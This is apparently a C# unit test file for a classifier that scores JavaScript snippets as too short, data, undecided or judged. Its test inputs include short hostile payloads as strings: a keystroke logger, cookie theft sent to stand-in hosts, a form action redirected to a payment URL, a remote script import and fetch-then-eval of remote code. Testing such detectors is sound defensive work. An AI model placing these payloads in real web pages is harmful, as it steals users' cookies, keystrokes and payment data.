using System.Text;
using Shouldly;
using Weir.Scripts;
using Xunit;

namespace Weir.Tests.Scripts;

/// <summary>What a score is worth: short code is not harmless, and data is not judged. All scripts are inert text.</summary>
public sealed class ScriptStateTests
{
    private static readonly Lazy<ScriptClassifier> s_classifier = new(() => ScriptClassifier.Load(Path.Combine(House.Repository.Root, "models", "script-1.weir")));

    [Theory]
    [InlineData("onkeyup=e=>fetch('//x/'+e.key)")]
    [InlineData("new Image().src='//x/?'+document.cookie")]
    [InlineData("location='//x/?'+document.cookie")]
    [InlineData("alert(1)")]
    [InlineData("alert`1`")]
    [InlineData("import'//x/y.js'")]
    [InlineData("throw x")]
    public void Score_FewWords_IsTooShort(string code)
    {
        ScriptVerdict verdict = Score(code);

        verdict.State.ShouldBe(ScriptState.TooShort);
        verdict.IsUndecided.ShouldBeFalse();
        verdict.Class.ShouldBeNull();
        (verdict.Score, verdict.Severity).ShouldBe((0, Severity.None));
    }

    /// <summary>To write to these is to send, to load, or to run later.</summary>
    [Theory]
    [InlineData("document.forms[0].action = 'https://shop.example/pay'")]
    [InlineData("document.body.innerHTML += '<img src=//a.example/?' + document.cookie + '>'")]
    [InlineData("x.onkeyup = k")]
    public void Score_WhatActsIsWrittenTo_IsNoData(string code) => Score(code).State.ShouldNotBe(ScriptState.Data);

    [Theory]
    [InlineData("")]
    [InlineData("{\"a\":[1,2,3]}")]
    [InlineData("var shop = { currency: 'EUR', locale: 'en', step: 'payment', items: ['one', 'two', 'three'], name: 'Shop' };")]
    public void Score_NothingCalled_IsData(string code) => Score(code).State.ShouldBe(ScriptState.Data);

    /// <summary>Few words, so that it is decided by what it runs, whatever the model says.</summary>
    [Fact]
    public void Score_RunsWhatIsFetched_IsNotDecidedAndSaysWhere()
    {
        ScriptVerdict verdict = Score("fetch(u).then(r=>r.text()).then(eval)");

        (verdict.State, verdict.IsUndecided, verdict.Class).ShouldBe((ScriptState.Undecided, true, null));
        verdict.Evidence.ShouldHaveSingleItem().Sentence.ShouldBe("Runs text that does not stand in the script (eval).");
        (verdict.Evidence[0].Line, verdict.Evidence[0].Column).ShouldBe((1, 33));
    }

    [Fact]
    public void Score_NoSeverity_HasNoClass()
    {
        ScriptVerdict verdict = Score("document.querySelector('.menu').addEventListener('click', function (event) { event.target.classList.toggle('open'); });");

        verdict.State.ShouldBe(ScriptState.Judged);
        verdict.Class.ShouldBeNull();
    }

    private static ScriptVerdict Score(string code) => s_classifier.Value.Score(Encoding.UTF8.GetBytes(code));
}
